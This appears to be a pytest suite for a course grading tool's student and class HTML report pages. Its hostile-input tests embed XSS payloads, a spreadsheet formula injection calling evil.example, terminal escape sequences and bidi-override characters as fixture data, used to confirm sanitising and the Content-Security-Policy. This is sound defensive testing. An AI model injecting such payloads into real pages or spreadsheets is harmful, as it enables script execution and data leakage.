"""Test what the pages of students and of the class show, and that no hostile submission can do harm there."""

import base64
import hashlib
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from html.parser import HTMLParser

import pytest

from grading.formats import TEMPLATES, clean_line, exercise_title, render, report_folder
from grading.grade import REFUSED_CALL
from grading.record import CheckResult, ExerciseResult, Outcome, Person, StudentResult
from grading.reports import Reports, class_page, make_histogram
from helpers import ROOT, chromium, make_exercise_1b
from lesson_loader import find_exercises

FOLDER = ROOT / "tests/grading/templates"
SCRIPT = "<script>alert(1)</script>"
EVIL = (
    f"{SCRIPT}</pre></title></style><img src=x onerror=alert(2)>\"' onmouseover='alert(3)' {{{{ 7*7 }}}} "
    "<svg/onload=alert(4)> ]]> &lt; \x1b[31mred\x1b[0m \x1b]0;title\x07 \x00\x07\x9b \u202egnp.exe\u202c "
    "\ud800 \udcfc \ufffe \r\n https://evil.example/x.png "
)
NAMES = [
    SCRIPT,
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "Ünïcode 学生 🎓",
    "مريم الأندلسي",
    "a\u202enna",
    "\x1b[31manna\x1b[0m",
    "anna\x00\n\r\t",
    "M\udcfcller",
    "x" * 255,
]
HOSTILE = set("\x00\x07\x1b\x7f\x9b\r\u200b\u202e\u2066\ud800\udcfc\ufeff\ufffe")


def make(*outcomes, student="anna", exercise="01_auth_url", **fields):
    """Make a result with a check of 2 points for each outcome, and with evil text from the answer."""
    evil = dict.fromkeys(("sent", "expected", "got", "question", "message"), EVIL)
    checks = [
        CheckResult(
            f"test_{place}", f"Check {place} holds.", 2, outcome, **evil if outcome != "passed" else {}
        )
        for place, outcome in enumerate(map(Outcome, outcomes), start=1)
    ]
    fields = {"seed": 123, "file": EVIL, "printed": EVIL * 500} | fields
    exercises = [ExerciseResult(exercise, 2 * len(checks), checks, **fields)]
    return StudentResult(Person(student), source=student, exercises=exercises)


def one_of_each(student="anna"):
    """Make a result with an exercise of every outcome, and with evil text everywhere."""
    result = make(*Outcome, student=student, problem=EVIL, comment=EVIL, manual_points=0.5)
    result.exercises[0].checks.pop()  # the grader error, because it would leave no points
    for number, outcome in enumerate(Outcome, start=2):
        if outcome is not Outcome.GRADER_ERROR:
            result.exercises += make(outcome, outcome, exercise=f"{number:02}_more", problem=EVIL).exercises
    result.notes, result.submitted, result.source = [EVIL, EVIL], EVIL, EVIL
    result.repository, result.commit = EVIL, EVIL
    return result


def student_page(result):
    return render("student.html", result)


def page_of(*results, unmatched=()):
    """Return the page of a class with these results."""
    return class_page(results, unmatched)


class Page(HTMLParser):
    """The tags, the attributes and the text of a page."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes, self.text = Counter(), [], ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.attributes += attrs

    def handle_data(self, data):
        self.text += f"{data} "


def text_of(page):
    """Return a page's text with single spaces."""
    return " ".join(Page(page).text.split())


def policy_of(page):
    return re.search(r'http-equiv="Content-Security-Policy" content="(.*?)"', page)[1].split("; ")


# titles


def test_an_exercise_has_the_title_of_its_checks_and_not_that_of_its_lesson():
    assert exercise_title("03_auth_key") == "Exercise 3: Log in with a phone number and a PIN"
    for exercise in find_exercises().values():
        first = exercise.checks.read_text(encoding="utf-8").partition("\n")[0]
        assert exercise_title(exercise.name).casefold() == first.strip('".').casefold()


@pytest.fixture
def fresh_titles():
    """Forget the titles before and after a test that changes the exercises."""
    exercise_title.cache_clear()
    yield
    exercise_title.cache_clear()


@pytest.mark.usefixtures("fresh_titles")
def test_an_additional_exercise_has_the_title_of_its_checks(tmp_path, monkeypatch):
    make_exercise_1b(tmp_path)
    monkeypatch.setenv("EXERCISES", str(tmp_path))
    assert exercise_title("01b_session") == "Exercise 1b: Log in at another URL"


@pytest.mark.usefixtures("fresh_titles")
def test_without_another_title_an_exercise_has_that_of_its_folder(tmp_path, monkeypatch):
    exercise = make_exercise_1b(tmp_path)
    (exercise / "test_01b_session.py").write_text("import pytest\n")
    monkeypatch.setenv("EXERCISES", str(tmp_path))
    assert exercise_title("01b_session") == "Exercise 1b: Session"
    assert exercise_title("77_not_there") == "Exercise 77: Not there"


def test_the_package_for_gradescope_has_the_titles_too(tmp_path):
    make_exercise_1b(tmp_path / "mine")
    environment = os.environ | {"EXERCISES": str(tmp_path / "mine"), "PYTHONPATH": "tests:lessons"}
    archive = tmp_path / "gradescope.zip"
    command = [sys.executable, ROOT / "tests/grading/package.py", "3", "1b", "--out", archive]
    subprocess.run(command, env=environment, check=True, capture_output=True)
    zipfile.ZipFile(archive).extractall(tmp_path / "package")
    environment["EXERCISES"] = ""
    code = "from grading.formats import exercise_title as title\n"
    code += "print(title('03_auth_key'), title('01b_session'))"
    command = [sys.executable, "-c", code]
    folder = tmp_path / "package"
    run = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True)
    titles = "Exercise 3: Log in with a phone number and a PIN Exercise 1b: Log in at another URL\n"
    assert run.stdout == titles, run.stderr


# a student's page


def test_the_style_sheet_and_the_symbols_know_every_outcome():
    style = (FOLDER / "style.css").read_text(encoding="utf-8")
    names = {outcome.name.lower() for outcome in Outcome}
    assert {name for name in names if not re.search(rf"\.{name}\b", style)} == set()
    parts = TEMPLATES.get_template("parts.html").module
    assert set(parts.symbols) == set(Outcome)
    assert len(set(parts.symbols.values())) == len(Outcome)


def test_a_students_page_shows_what_was_sent_expected_and_got_and_how_to_repeat_it():
    result = make("passed", "failed", "skipped", student="anna", printed="hello")
    for place, check in enumerate(result.exercises[0].checks):
        check.sent, check.expected, check.got, check.question = "GET /x", "200", "404", "Is it there?"
        check.message = "needs: Check 2 holds." if place == 2 else ""
    text = text_of(student_page(result))
    for words in (
        *("anna", "2 of 6 points", "Exercise 1: Log in at another URL", "✓ passed Check 1 holds. 2 of 2"),
        "✗ failed Check 2 holds. 0 of 2",
        *("sent GET /x", "expected 200", "got 404", "Is it there?", "needs: Check 2 holds."),
        *("printed or logged. The times in it are nine hours ahead of UTC. hello", "make check-1"),
        ".venv/bin/python lessons check 1 --seed 123",
    ):
        assert words in text


@pytest.mark.parametrize(
    ("result", "words"),
    [
        (make("passed"), "Everything passes. Well done!"),
        (make("grader error", problem="disk full"), "Not your fault"),
        (make("grader error"), "No mark yet"),
        (make("not handed in"), "Begin this exercise with make start-1"),
        (make("starter not changed"), "This is the starter as you got it."),
        (make("did not start", "did not start"), "Why your app did not start"),
        (make("unreadable", problem="answer.py is a link"), "answer.py is a link"),
        (StudentResult(Person("anna"), problem="too many files"), "too many files"),
    ],
    ids=range(8),
)
def test_a_students_page_explains_the_outcome_in_plain_words(result, words):
    assert words in text_of(student_page(result))


def test_a_traceback_that_every_check_has_is_shown_once():
    result = make(*["did not start"] * 5)
    for check in result.exercises[0].checks:
        check.message = "NameError: once"
    assert student_page(result).count("NameError: once") == 1


def test_a_student_is_not_blamed_if_the_grader_could_not_read_the_submission():
    text = text_of(student_page(make("grader error")))
    assert "This is not your fault." in text
    result = make("grader error")
    result.problem = "Stale file handle"
    text = text_of(student_page(result))
    assert "Not your fault" in text
    assert "Stale file handle" in text
    assert "hand in all your answers again" not in text
    result = make("unreadable")
    result.problem = "too many files"
    assert "hand in all your answers again" in text_of(student_page(result))


def test_a_starter_that_was_not_changed_is_explained_without_its_checks():
    page = student_page(make("starter not changed", "starter not changed"))
    assert "make check-1" in text_of(page)
    assert "Check 1 holds." not in page
    assert "0 of 4 points" in text_of(page)


def test_a_students_page_shows_manual_points_with_the_comment_and_still_shows_the_checks():
    result = make("passed", "failed")
    result.exercises[0].manual_points, result.exercises[0].comment = 3.5, "This way is right, too."
    text = text_of(student_page(result))
    assert "3.5 of 4 points" in text
    assert "Your instructor gave 3.5 points" in text
    assert "The checks gave 2 points." in text
    assert "This way is right, too." in text
    assert "Check 2 holds." in text


@pytest.mark.parametrize("outcome", ["not handed in", "unreadable", "grader error"])
def test_manual_points_are_shown_whatever_happened_to_the_submission(outcome):
    result = make(outcome)
    result.exercises += make("not handed in", exercise="02_token_expiry").exercises
    result.problem = "" if outcome == "not handed in" else "too many files"
    result.exercises[0].manual_points, result.exercises[0].comment = 2, "You showed it to me."
    text = text_of(student_page(result))
    assert "2 of 4 points" in text
    assert "Your instructor gave 2 points" in text
    assert "You showed it to me." in text


def test_a_students_page_shows_sums_as_people_write_them():
    result = make("passed", "passed", "passed")
    for check, points in zip(result.exercises[0].checks, (0.1, 0.2, 0.4), strict=True):
        check.max_points = points
    result.exercises[0].max_points = 0.7
    assert "0.7 of 0.7 points" in text_of(student_page(result))
    result.exercises[0].manual_points = 0.5
    assert "0.5 of 0.7 points" in text_of(student_page(result))
    assert "The checks gave 0.7 points." in text_of(student_page(result))
    result.exercises[0].checks[0].outcome = Outcome.GRADER_ERROR
    assert "The checks gave" not in text_of(student_page(result))


def test_a_comment_without_points_is_shown():
    text = text_of(student_page(make("passed", comment="Well named.")))
    assert "A comment from your instructor Well named." in text
    assert "instructor gave" not in text


def test_a_students_page_shows_the_notes_the_time_of_submission_and_the_due_date():
    result = make("passed")
    assert "Handed in" not in student_page(result)
    assert "Due" not in student_page(result)
    result.notes = ["The grader used the original security.py.", "The grader found exercise3.py."]
    result.submitted = "2026-06-14T23:10:05.365935-07:00"
    result.person = Person("anna", due="2026-06-14T23:59:00Z")
    text = text_of(student_page(result))
    assert "The grader used the original security.py. The grader found exercise3.py." in text
    assert "Handed in: 2026-06-14 23:10 -07:00 Due: 2026-06-14 23:59 Z" in text
    result.submitted = ""
    assert "Handed in" not in student_page(result)
    assert "Due: 2026-06-14 23:59 Z" in text_of(student_page(result))


def test_the_pages_show_the_name_from_the_roster_and_otherwise_the_id():
    result = make("passed", student="ada17")
    assert "ada17" in text_of(student_page(result))
    result.person = Person("ada17", "Ada Lovelace")
    assert "Ada Lovelace" in text_of(student_page(result))
    assert "Ada Lovelace ada17" in text_of(page_of(result))


def test_with_a_pseudonym_no_page_contains_the_id_the_name_the_e_mail_address_or_the_source():
    result = one_of_each()
    result.person = Person("ada17", "Ada Lovelace", "ada@example.edu")
    result.source, result.repository, result.commit = "lovelace.zip", "https://example.edu/lovelace", "c0ffee"
    result.pseudonym = "Student 7"
    for exercise in result.exercises:
        exercise.file = "lovelace/answer.py"
    for page in (student_page(result), page_of(result, unmatched=["ada17"])):
        assert "Student 7" in page
        for secret in ("ada17", "ada", "lovelace", "c0ffee"):
            assert not re.search(rf"\b{secret}\b", page, re.I)


def test_the_class_page_links_to_the_page_of_each_student():
    results = [make("passed", student="ada"), make("passed", student="ben")]
    results[1].pseudonym = "student-1"
    page = page_of(*results)
    for result in results:
        assert f'<a href="{report_folder(result)}/index.html">' in page


def test_a_page_warns_if_there_was_no_sandbox():
    result = make("passed")
    assert "Advice, not a mark" not in student_page(result)
    assert "ran without a sandbox" not in page_of(result)
    result.sandboxed = False
    assert "Advice, not a mark" in student_page(result)
    assert "1 of 1 students ran without a sandbox" in page_of(result)


# the page of the class


def test_the_class_page_begins_with_the_figures_the_notices_and_the_students():
    results = [make("passed", "passed"), *[make("passed", "failed") for _ in range(3)], make("grader error")]
    text = text_of(page_of(*results))
    assert "students 5 mean 2.5 of 4 with all points 1 without a mark 1" in text
    assert "The grader failed on 1 answer" in text
    assert "Run the same command again." in text
    headings = re.findall(r"<h2>(.*?)</h2>", page_of(*results))
    assert headings[0] == "The grader failed on 1 answer"
    assert headings[1:] == [
        "Students",
        "Most missed",
        "Points",
        "Checks",
        "Exercise 1: Log in at another URL",
    ]


def test_most_missed_and_the_bars_below_count_the_same_answers():
    outcomes = ["failed", "no response in time", "died", "passed", "passed", "skipped", "did not start"]
    outcomes += ["starter not changed", "not handed in", "unreadable"]
    page = page_of(*(make("passed", outcome) for outcome in outcomes))
    text = text_of(page)
    assert "3 of 5 Check 2 holds. Exercise 1: Log in at another URL" in text
    assert "missed: 3 of 5" in text
    for symbol, count, outcome in [("✗", 1, "failed"), ("⋯", 1, "no response in time"), ("†", 1, "died")]:
        assert f"{symbol} {count} {outcome}" in text
    assert "✓ 2 passed" in text
    assert text.count("3 of 5") == 2


def test_the_class_page_lists_every_student_by_name_also_those_who_handed_in_nothing():
    names = ["zoe", "Ünal", "Anna", "Ben"]
    results = [make("not handed in" if name == "Ben" else "passed", student=name) for name in names]
    page = page_of(*results)
    rows = re.findall(r"<tr><th scope=\"row\">.*?</tr>", page, re.S)
    assert [Page(row).text.split()[0] for row in rows] == ["Anna", "Ben", "Ünal", "zoe"]
    assert Page(rows[1]).text.split() == ["Ben", "0", "–", "not", "handed", "in"]  # noqa: RUF001


def test_the_class_page_marks_manual_points_and_explains_the_mark():
    result = make("not handed in")
    result.exercises[0].manual_points = 1.25
    page = page_of(result)
    row = re.search(r"<tr><th scope=\"row\">.*?</tr>", page, re.S)[0]
    assert Page(row).text.split() == ["anna", "1.25", "1.25", "✎", "given", "by", "hand"]
    assert "✎ points given by hand" in text_of(page)


def test_students_can_have_different_exercises():
    short = make("passed", "passed")
    long = make("passed", "passed")
    long.exercises += make("failed", exercise="02_token_expiry").exercises
    page = page_of(short, long)
    assert "students 2 mean 4.0 of 6 with all points 1" in text_of(page)
    assert page.count('<td data-value="-1"></td>') == 1


def test_a_submission_without_exercises_does_not_have_all_points():
    page = page_of(StudentResult(Person("anna"), problem="too many files"))
    assert "with all points 0" in text_of(page)


def test_the_class_page_names_what_the_instructor_should_look_at():
    failed = make("grader error", problem="disk full", student="Ada")
    refused = make("died", student="Ben")
    refused.notes = [REFUSED_CALL]
    noted, stranger = make("passed", student="Cleo"), make("passed", student="dora.zip")
    noted.notes = ["The grader used the original security.py."]
    text = text_of(page_of(failed, refused, noted, stranger, unmatched=["dora.zip"]))
    assert "Ada , Exercise 1: Log in at another URL: disk full" in text
    assert re.search(r"refused a system call in the answers of 1 student .*? Ben", text)
    assert text.count(REFUSED_CALL) == 0
    assert "1 submission belongs to nobody in the roster" in text
    assert "the same command again. dora.zip" in text
    assert "Cleo : The grader used the original security.py." in text
    text = text_of(page_of(make("passed")))
    for words in ("failed on", "refused", "roster", "Notes on", "Most missed"):
        assert words not in text


def test_the_histogram_has_eleven_bars_at_most_and_counts_every_student():
    for max_points in range(1, 200):
        bars = make_histogram(range(max_points + 1), max_points)
        assert len(bars) <= 11
        assert sum(count for _, count in bars) == max_points + 1
        lows = [int(label.removesuffix("+")) for label, _ in bars]
        ends = [*lows[1:], max_points + 1]
        assert [count for _, count in bars] == [end - low for low, end in zip(lows, ends, strict=True)]
        for (label, _), low, end in zip(bars, lows, ends, strict=True):
            assert label.endswith("+") == (end - low > 1)


def test_a_bar_of_the_histogram_with_decimal_points_says_where_it_begins():
    labels = [label for label, _ in make_histogram([1, 5, 10], 10)]
    assert labels == [str(number) for number in range(11)]
    bars = dict(make_histogram([5.75, 5, 10], 10))
    assert bars["5+"] == 2
    assert bars["10"] == 1
    assert "5" not in bars
    bars = make_histogram([0.3, 1, 1, 1.75, 1.75, 1.75, *[2.5] * 4], 2.5)
    assert bars == [("0+", 1), ("1+", 5), ("2+", 4)]
    text = text_of(page_of(make("failed", manual_points=0.3), *[make("grader error")] * 5))
    assert "“0+” means 0 points or more" in text
    assert "5 students have no mark" in text


def test_the_histogram_counts_more_points_than_the_exercises_give():
    assert sum(count for _, count in make_histogram([12, 10.5, 3], 10)) == 3


def test_a_class_without_students_has_a_page():
    assert "The class" in page_of()


def test_a_large_class_is_listed_completely():
    page = page_of(*[make("grader error", "passed")] * 2_005)
    assert page.count('<tr><th scope="row">') == 2_005
    assert "The grader failed on 2005 answers" in page
    assert "students 2005 mean no mark yet" in text_of(page)


def test_the_results_of_a_class_share_their_checks_and_have_no_long_texts(tmp_path):
    results = [make("failed", "passed", student=name, problem="why") for name in ("ada", "ben")]
    expected = [(each.person, each.points, each.outcome, each.exercises[0].problem) for each in results]
    kept = Reports(tmp_path).finish(results, ["01_auth_url"])
    assert [(each.person, each.points, each.outcome, each.exercises[0].problem) for each in kept] == expected
    exercise, other = (each.exercises[0] for each in kept)
    assert (exercise.printed, exercise.checks[0].got) == ("", "")
    assert [id(check) for check in exercise.checks] == [id(check) for check in other.checks]


# what a hostile submission cannot do


@pytest.fixture(scope="module")
def hostile_pages():
    """The pages of hostile students and of their class. The last one is that of the class."""
    results = [one_of_each(name) for name in NAMES]
    results[0].person = Person(EVIL, EVIL, EVIL, EVIL)
    results[1].pseudonym = "student-1"
    results += [
        make("grader error", student=EVIL, problem=EVIL),
        StudentResult(Person(EVIL), EVIL, problem=EVIL),
    ]
    for number in range(11, 40):  # too many columns for a phone
        results[0].exercises += make("passed", exercise=f"{number}_more").exercises
    return [*map(student_page, results), page_of(*results, unmatched=[EVIL])]


def test_a_page_has_only_the_tags_of_its_template(hostile_pages):
    for page in hostile_pages:
        parsed = Page(page)
        assert not {"img", "svg", "iframe", "link", "form", "base", "object"} & parsed.tags.keys()
        assert parsed.tags["script"] == (page is hostile_pages[-1])
        assert not [name for name, _ in parsed.attributes if name.startswith("on")]
        assert not [value for name, value in parsed.attributes if name in ("src", "srcset", "action")]
        hrefs = {value for name, value in parsed.attributes if name == "href"}
        assert all(href.startswith(("#exercise-", "students/", "anonymous/")) for href in hrefs)
        assert not set(page) & HOSTILE
        assert SCRIPT in parsed.text
        page.encode("utf-8")


@pytest.mark.parametrize("name", NAMES, ids=range(9))
def test_a_page_shows_a_hostile_name_cleaned(name):
    result = make("passed", student=name)
    for page in (student_page(result), page_of(result)):
        assert clean_line(name) in Page(page).text


def test_the_policy_of_a_students_page_allows_only_its_style(hostile_pages):
    policy = ["default-src 'none'", "style-src 'unsafe-inline'", "base-uri 'none'", "form-action 'none'"]
    for page in hostile_pages[:-1]:
        assert policy_of(page) == policy


def test_the_policy_of_the_class_page_allows_only_its_own_script(hostile_pages):
    page = hostile_pages[-1]
    script = re.search(r"<script>(.*)</script>", page, re.S)[1]
    assert script == (FOLDER / "class.js").read_text(encoding="utf-8")
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert [*policy_of(hostile_pages[0]), f"script-src 'sha256-{digest}'"] == policy_of(page)
    assert not re.search(r"innerHTML|outerHTML|insertAdjacent|document\.write|eval|Function", script)


# in a browser

LUMINANCE = """() => {
  const rgb = text => text.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [.2126, .7152, .0722][i], 0);
  const behind = it => {
    for (; it; it = it.parentElement) {
      const color = rgb(getComputedStyle(it).backgroundColor);
      if (color.length === 3 || color[3] === 1) return color;
    }
    return matchMedia("(prefers-color-scheme: dark)").matches ? [18, 18, 18] : [255, 255, 255];
  };
  const worst = {};
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const it = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || it.closest(".hidden, script")) continue;
    const [a, b] = [light(rgb(getComputedStyle(it).color)), light(behind(it))].sort((x, y) => y - x);
    const ratio = (a + .05) / (b + .05);
    if (ratio < 4.5) worst[it.outerHTML.slice(0, 80)] = ratio;
  }
  return worst;
}"""


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.mark.slow
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_page_runs_no_hostile_script_sends_no_request_fits_the_screen_and_has_contrast(
    browser, hostile_pages, scheme, tmp_path
):
    happened = []
    tab = browser.new_page(color_scheme=scheme)
    tab.on("dialog", lambda dialog: (happened.append(dialog.message), dialog.dismiss()))
    tab.on("request", lambda request: happened.append(request.url))
    tab.on("console", lambda message: happened.append(message.text))
    tab.on("pageerror", lambda error: happened.append(str(error)))
    for place, page in enumerate(hostile_pages if scheme == "light" else hostile_pages[::11]):
        file = tmp_path / f"{place}.html"
        file.write_text(page, encoding="utf-8")
        for width in (360, 1280, 1920):
            tab.set_viewport_size({"width": width, "height": 800})
            tab.goto(file.as_uri())
            happened.remove(file.as_uri())
            tab.evaluate("document.querySelectorAll('details').forEach(it => it.open = true)")
            assert tab.evaluate("document.documentElement.scrollWidth") <= width, place
            assert tab.evaluate("document.querySelector('h1').scrollWidth") <= width
        assert tab.evaluate(LUMINANCE) == {}
    assert happened == []
    tab.close()


@pytest.mark.slow
@pytest.mark.parametrize("make_page", [student_page, lambda result: page_of(result)])
def test_a_page_runs_no_script_and_loads_no_picture_even_if_its_html_contains_them(
    browser, make_page, tmp_path
):
    tab = browser.new_page()
    refused, dialogs = [], []
    tab.on("requestfailed", lambda request: refused.append(request.failure))
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    file = tmp_path / "page.html"
    evil = f"<main>{SCRIPT}<img src='http://127.0.0.1:9/x.png' onerror='alert(2)'>"
    file.write_text(make_page(make("passed")).replace("<main>", evil), "utf-8")
    tab.goto(file.as_uri())
    assert refused == ["csp"]
    assert dialogs == []
    tab.close()


@pytest.fixture
def class_file(tmp_path):
    """The page of a class of four students with 4, 10, 2 and no points."""
    results = [
        make("passed", "failed", student="Zoë"),
        make(*["passed"] * 2, student="Anna 10"),
        make("failed", "passed", student="Anna 9"),
        make("grader error", "failed", student="Ben"),
    ]
    results[1].exercises[0].manual_points = 10
    results[2].exercises[0].manual_points = 4.5
    file = tmp_path / "index.html"
    file.write_text(page_of(*results), "utf-8")
    return file


VISIBLE = "() => [...document.querySelectorAll('tbody tr')].filter(row => !row.hidden)"
VISIBLE += ".map(row => row.querySelector('a').textContent)"


@pytest.mark.slow
def test_a_click_on_a_header_or_the_enter_key_sorts_the_students(browser, class_file):
    tab = browser.new_page()
    tab.goto(class_file.as_uri())
    assert tab.locator("th[aria-sort]").inner_text() == "Student"
    tab.get_by_role("button", name="Points").click()
    assert tab.evaluate(VISIBLE) == ["Ben", "Zoë", "Anna 9", "Anna 10"]
    assert tab.locator("th[aria-sort]").get_attribute("aria-sort") == "ascending"
    assert tab.locator("th[aria-sort]").inner_text() == "Points"
    tab.keyboard.press("Enter")
    assert tab.evaluate(VISIBLE) == ["Anna 10", "Anna 9", "Zoë", "Ben"]
    assert tab.locator("th[aria-sort]").get_attribute("aria-sort") == "descending"
    tab.get_by_role("button", name="Student").click()
    assert tab.evaluate(VISIBLE) == ["Anna 9", "Anna 10", "Ben", "Zoë"]
    tab.get_by_role("button", name="Exercise 1").click()
    assert tab.evaluate(VISIBLE) == ["Ben", "Zoë", "Anna 9", "Anna 10"]
    tab.close()


@pytest.mark.slow
def test_a_browser_sorts_letters_that_python_puts_after_z(browser, tmp_path):
    page = page_of(*(make("passed", student=name) for name in ("Zoe", "Øyvind", "Anna")))
    (tmp_path / "index.html").write_text(page, "utf-8")
    tab = browser.new_page()
    tab.goto((tmp_path / "index.html").as_uri())
    assert tab.evaluate(VISIBLE) == ["Anna", "Øyvind", "Zoe"]
    tab.close()


@pytest.mark.slow
def test_the_search_box_shows_only_the_students_whose_name_contains_the_text(browser, class_file):
    tab = browser.new_page()
    tab.goto(class_file.as_uri())
    search = tab.get_by_label("Search")
    search.fill("ANNA ")
    assert tab.evaluate(VISIBLE) == ["Anna 9", "Anna 10"]
    assert tab.get_by_role("status").inner_text() == "2 of 4 students"
    search.fill(" zoe ")
    assert tab.evaluate(VISIBLE) == ["Zoë"]
    search.fill("")
    assert len(tab.evaluate(VISIBLE)) == 4
    tab.close()


@pytest.mark.slow
def test_without_scripts_the_table_is_complete_and_sorted_and_has_no_search_box(browser, class_file):
    tab = browser.new_page(java_script_enabled=False)
    tab.goto(class_file.as_uri())
    assert tab.locator("tbody tr a").all_inner_texts() == ["Anna 10", "Anna 9", "Ben", "Zoë"]
    assert not tab.get_by_label("Search").is_visible()
    assert tab.locator(".students button").count() == 0
    tab.close()


@pytest.mark.slow
def test_the_keyboard_reaches_the_search_box_and_every_header_with_a_visible_focus(browser, class_file):
    tab = browser.new_page()
    tab.goto(class_file.as_uri())
    tab.get_by_label("Search").focus()
    reached = []
    for _ in range(4):
        assert tab.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
        tab.keyboard.press("Tab")
        reached.append(tab.evaluate("document.activeElement.textContent"))
    assert reached[1:] == ["Student", "Points", "Exercise 1"]
    tab.close()
